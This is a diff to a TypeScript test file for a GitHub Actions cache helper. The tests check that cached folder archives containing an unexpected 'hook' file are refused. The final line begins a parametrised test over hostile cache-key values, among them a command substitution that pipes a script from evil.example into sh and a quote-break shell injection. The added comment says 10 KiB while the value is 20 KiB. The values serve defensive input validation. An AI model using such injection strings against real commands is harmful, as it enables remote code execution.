@@ -40,6 +40,8 @@ async function step(limits: CacheLimits = CACHE_LIMITS) {
 }
 
 const WANTED = { what: 'a thing', key: 'thing-1-', maxBytes: 1_000 };
+/** An archive is filled up to 10 KiB. */
+const WANTED_FOLDER = { ...WANTED, maxBytes: 20_480 };
 const isPart = (name: string) => name.startsWith('parts/');
 
 async function parts(folder: TempFolder): Promise<string> {
@@ -74,7 +76,7 @@ describe('the Actions cache', () => {
     await using at = await step();
     const from = await parts(at.folder);
     expect(await at.cache.saveFolder({ what: 'parts', key: 'thing-1-a' }, from, ['parts/one'])).toBe(true);
-    expect(await at.cache.restoreFolder(WANTED, at.folder.file('to'), isPart)).toBe('thing-1-a');
+    expect(await at.cache.restoreFolder(WANTED_FOLDER, at.folder.file('to'), isPart)).toBe('thing-1-a');
     expect(await readFile(at.folder.file('to', 'parts', 'one'), 'utf8')).toBe('first');
     expect((await readdir(at.folder.path)).sort()).toEqual(['from', 'to']);
   });
@@ -84,14 +86,14 @@ describe('the Actions cache', () => {
     const from = await parts(at.folder);
     await writeFile(join(from, 'hook'), 'run me');
     await at.cache.saveFolder({ what: 'parts', key: 'thing-1-a' }, from, ['parts/one', 'hook']);
-    expect(await at.cache.restoreFolder(WANTED, at.folder.file('to'), isPart)).toBeNull();
+    expect(await at.cache.restoreFolder(WANTED_FOLDER, at.folder.file('to'), isPart)).toBeNull();
     expect(at.lines.at(-1)).toBe(
       'warning: The entry thing-1-a of the Actions cache is not used: the archive was refused: "hook" is not expected there. Delete it: gh cache delete thing-1-a',
     );
     expect(await readdir(at.folder.path)).toEqual(['from']);
     // Only this entry is bad.
     await at.cache.saveFolder({ what: 'parts', key: 'thing-1-b' }, from, ['parts/one']);
-    expect(await at.cache.restoreFolder(WANTED, at.folder.file('to'), isPart)).toBe('thing-1-b');
+    expect(await at.cache.restoreFolder(WANTED_FOLDER, at.folder.file('to'), isPart)).toBe('thing-1-b');
   });
 
   test.each(['$(curl evil.example|sh)', "'; id; '", 'a b', 'a\nDelete it: b', 'a%2eb', '\u202ea'])(
